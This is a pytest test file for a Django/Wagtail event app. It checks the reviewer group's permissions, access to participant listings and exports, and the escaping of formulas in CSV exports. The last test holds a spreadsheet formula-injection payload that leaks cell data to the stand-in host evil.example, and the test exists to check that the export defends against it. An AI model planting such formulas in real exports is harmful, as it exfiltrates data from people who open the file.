"""The calendar's staff group exists in every install (migration 0003) with what it needs, and
participant exports cannot carry a spreadsheet formula."""

import csv
import io

from django.contrib.auth.models import Group

from wagtail.models import GroupApprovalTask, Workflow

import pytest

from events.factories import SignupFactory
from events.permissions import REVIEWERS_GROUP
from events.proposals import TASK_NAME, WORKFLOW_NAME


def body_of(response):
    if response.streaming:
        return b"".join(response.streaming_content).decode("utf-8-sig")
    return response.content.decode("utf-8-sig")


@pytest.mark.django_db
def test_reviewers_group_comes_with_the_database():
    group = Group.objects.get(name=REVIEWERS_GROUP)
    codenames = set(group.permissions.values_list("codename", flat=True))
    assert {"access_admin", "view_signup"} <= codenames
    task = GroupApprovalTask.objects.get(name=TASK_NAME)
    assert list(task.groups.values_list("name", flat=True)) == [REVIEWERS_GROUP]
    assert Workflow.objects.get(name=WORKFLOW_NAME).workflow_tasks.get().task_id == task.pk


@pytest.mark.django_db
def test_reviewer_sees_and_exports_participants_plain_staff_does_not(
    client, django_user_model, event
):
    SignupFactory(event=event, name="Anna Andersson", email="anna@example.se")
    url = f"/admin/events/participants/?event={event.pk}"

    staff = django_user_model.objects.create_user("personal", "p@example.se", "x", is_staff=True)
    client.force_login(staff)
    assert client.get(url).status_code in (302, 403)
    assert "anna@example.se" not in body_of(client.get(url + "&export=csv"))

    reviewer = django_user_model.objects.create_user("granskare", "g@example.se", "x")
    reviewer.groups.add(Group.objects.get(name=REVIEWERS_GROUP))
    client.force_login(reviewer)
    listing = client.get(url)
    assert listing.status_code == 200 and "Anna Andersson" in listing.content.decode()
    export = client.get(url + "&export=csv")
    assert export.status_code == 200 and "anna@example.se" in body_of(export)
    edit = client.get(f"/admin/pages/{event.pk}/edit/").content.decode()
    assert f"/admin/events/participants/?event={event.pk}" in edit
    assert client.get(f"/admin/events/{event.pk}/email/").status_code == 200


@pytest.mark.django_db
def test_participant_csv_neutralises_formulas(admin_client, event):
    payloads = {
        "name": '=HYPERLINK("http://evil.example/?"&A1,"klick")',
        "employer": "+1",
        "needs": "-2",
    }
    SignupFactory(event=event, email="a@example.se", **payloads)
    SignupFactory(event=event, email="b@example.se", name="@SUM(A1)", employer="Kommunen")
    export = admin_client.get(f"/admin/events/participants/?event={event.pk}&export=csv")
    assert export.status_code == 200
    assert export["Content-Type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(body_of(export)), delimiter=";"))
    cells = [cell for row in rows for cell in row]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert "'" + payloads["name"] in cells
    assert {"'+1", "'-2", "'@SUM(A1)"} <= set(cells)
